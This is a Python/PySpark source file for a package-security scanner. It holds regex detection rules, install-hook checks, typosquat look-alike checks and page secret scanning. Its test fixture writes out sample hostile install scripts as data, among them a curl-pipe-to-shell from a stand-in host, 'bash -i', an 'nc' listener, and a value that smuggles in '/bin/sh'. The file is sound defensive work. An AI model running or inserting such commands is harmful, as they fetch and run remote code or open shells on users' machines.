"""Detections."""

from pyspark.sql import functions as F

from catalog.base import ADAPTERS, query, text_literal
from riskframe.functions.text import detection_issue_text
from riskframe.operators import detection
from riskframe.session import spread
from riskframe.seeds import RULES, SUSPICIOUS_COMMANDS

LINES = """
    SELECT package_id, package, file_path, unnest(string_split(content, chr(10))) AS line,
           unnest(range(1, len(string_split(content, chr(10))) + 1)) AS line_number FROM {source_files}"""
BLANKS = "concat(' ', chr(9), chr(10), chr(11), chr(12), chr(13))"


def _rule_sql(rule) -> str:
    text = "code" if rule.origin == "structural" else "line"
    extra = f" AND NOT regexp_matches({text}, {text_literal(rule.excludes)})" if rule.excludes else ""
    return (
        f"SELECT package_id, package, file_path, CAST(line_number AS INTEGER) AS line_number, {text_literal(rule.rule_id)} AS rule_id, "
        f"{text_literal(rule.pattern_type)} AS pattern_type, {text_literal(rule.description)} AS description, "
        f"CAST({rule.confidence} AS DOUBLE) AS confidence, {text_literal(rule.origin)} AS origin, "
        f"trim(substr(line, 1, 120), {BLANKS}) AS code_snippet FROM coded "
        f"WHERE regexp_matches({text}, {text_literal(rule.regex)}){extra}"
    )


def _rules() -> str:
    return " UNION ALL ".join(_rule_sql(r) for r in RULES)


DETECTED_SQL = (
    rf"WITH coded AS (SELECT *, regexp_replace(line, '(^|[^:])//.*$', '\1') AS code FROM ({LINES}) AS l) " + _rules()
)


def source_files(d):
    return d.sql(ADAPTERS["source_files"], documents=spread(d.table("documents")))


def detections(d):
    return detection.detect_files(source_files(d))


@query(DETECTED_SQL)
def code_findings(d):
    return detections(d).select(
        "package_id", "package", "file_path", "line_number", "rule_id", "pattern_type", "description", "confidence",
        "origin", "code_snippet",
    )


@query(f"SELECT package_id, file_path, line, CAST(line_number AS INTEGER) AS line_number FROM ({LINES}) AS l")
def numbered_lines(d):
    return detection.source_lines(source_files(d)).select("package_id", "file_path", "line", "line_number")


SCRIPTS = """
    SELECT o_orderkey AS package_id,
           CASE o_orderkey % 9 WHEN 0 THEN 'CURL https://x.example | sh' WHEN 1 THEN 'node build.js' WHEN 2 THEN 'echo aGk= | base64 -d'
                WHEN 3 THEN 'chmod 777 .' WHEN 4 THEN 'wget x && curl y' WHEN 5 THEN 'bash -i' WHEN 6 THEN 'sync '
                WHEN 7 THEN concat('python -c ', o_orderpriority) ELSE 'tsc' END AS first_script,
           CASE o_custkey % 4 WHEN 0 THEN 'nc -l 1' WHEN 1 THEN concat('x; ', o_orderpriority, ' /bin/sh') ELSE NULL END AS second_script
    FROM {orders}"""
_COMMAND = "CASE " + " ".join(
    f"WHEN contains(lower(script), {text_literal(c)}) THEN {text_literal(c)}" for c in SUSPICIOUS_COMMANDS) + " END"
HOOKS_SQL = f"""
    SELECT package_id, concat('install script contains suspicious command: ', command) AS description, script AS code_snippet
    FROM (SELECT package_id, script, {_COMMAND} AS command FROM (
        SELECT package_id, first_script AS script FROM ({SCRIPTS}) AS a UNION ALL
        SELECT package_id, second_script AS script FROM ({SCRIPTS}) AS b WHERE second_script IS NOT NULL) AS s) AS c
    WHERE command IS NOT NULL"""


def scripted(d):
    return d.sql(SCRIPTS).select("package_id", F.array_compact(F.array("first_script", "second_script")).alias("install_scripts"))


@query(HOOKS_SQL)
def install_hooks(d):
    return detection.install_hook_findings(scripted(d)).select("package_id", "description", "code_snippet")


LOOK_ALIKE_SQL = """
    SELECT package_id, CASE WHEN name = 'next' THEN concat('package ''next'' is similar to popular package ''jest'' (edit distance: 2)')
                            WHEN name = 'reakt' THEN concat('package ''reakt'' is similar to popular package ''react'' (edit distance: 1)')
                            ELSE concat('package ''lodahs'' is similar to popular package ''lodash'' (edit distance: 2)') END AS description,
           CASE WHEN name = 'reakt' THEN CAST(0.75 AS DOUBLE) ELSE CAST(0.5 AS DOUBLE) END AS confidence
    FROM {packages} WHERE name IN ('next', 'reakt', 'lodahs')"""


@query(LOOK_ALIKE_SQL)
def look_alike_findings(d):
    return detection.typosquat_findings(d.adapter("packages")).select("package_id", "description", "confidence")


@query(f"""
    WITH every AS (
        SELECT package_id, description, confidence FROM ({DETECTED_SQL}) AS c
        UNION ALL SELECT package_id, description, CAST(0.85 AS DOUBLE) FROM ({HOOKS_SQL}) AS h
        UNION ALL SELECT package_id, description, confidence FROM ({LOOK_ALIKE_SQL}) AS t)
    SELECT package_id, count(*) AS detection_count, max(confidence) AS highest_confidence, min(description) AS first_description
    FROM every GROUP BY package_id""")
def combined_detections(d):
    every = detection.all_detections(
        detections(d), detection.install_hook_findings(scripted(d)), detection.typosquat_findings(d.adapter("packages"))
    )
    return every.groupBy("package_id").agg(
        F.count("*").alias("detection_count"), F.max("confidence").alias("highest_confidence"),
        F.min("description").alias("first_description"),
    )


@query(f"""
    WITH hits AS (SELECT package_id, max(CAST(0.85 AS DOUBLE)) AS best FROM ({HOOKS_SQL}) AS h GROUP BY package_id)
    SELECT o_orderkey AS package_id, best IS NULL AS is_clean, coalesce(best, 0) AS highest_confidence, TRUE AS has_install_scripts
    FROM {{orders}} LEFT JOIN hits ON package_id = o_orderkey""")
def analysis_summaries(d):
    packages = scripted(d)
    return detection.analysis_summary(packages, detection.install_hook_findings(packages))


@query(f"SELECT package_id, concat(description, ' @ ', file_path, ':', CAST(line_number AS STRING), ' — ', package, '@1') AS issue "
       f"FROM ({DETECTED_SQL}) AS c")
def finding_texts(d):
    c = F.col
    return detections(d).select("package_id", detection_issue_text(
        c("description"), c("file_path"), c("line_number"), c("package"), F.lit("1")).alias("issue"))


# Page text as source: entities are decoded first, since markup hides the quotes.
PAGE_TEXT = "replace(replace(html, '&quot;', '\"'), '&#39;', '''')"


PAGE_LINES = f"""
    SELECT page_id AS package_id, url AS package, url AS file_path, unnest(string_split({PAGE_TEXT}, chr(10))) AS line,
           unnest(range(1, len(string_split({PAGE_TEXT}, chr(10))) + 1)) AS line_number FROM {{pages}}"""


@query(rf"WITH coded AS (SELECT *, regexp_replace(line, '(^|[^:])//.*$', '\1') AS code FROM ({PAGE_LINES}) AS l) " + _rules())
def page_secrets(d):
    text = F.replace(F.replace("html", F.lit("&quot;"), F.lit('"')), F.lit("&#39;"), F.lit("'"))
    files = d.table("pages").select(
        F.col("page_id").alias("package_id"), F.col("url").alias("package"), F.col("url").alias("file_path"), text.alias("content"))
    return detection.detect_files(files).select(
        "package_id", "package", "file_path", "line_number", "rule_id", "pattern_type", "description", "confidence",
        "origin", "code_snippet",
    )
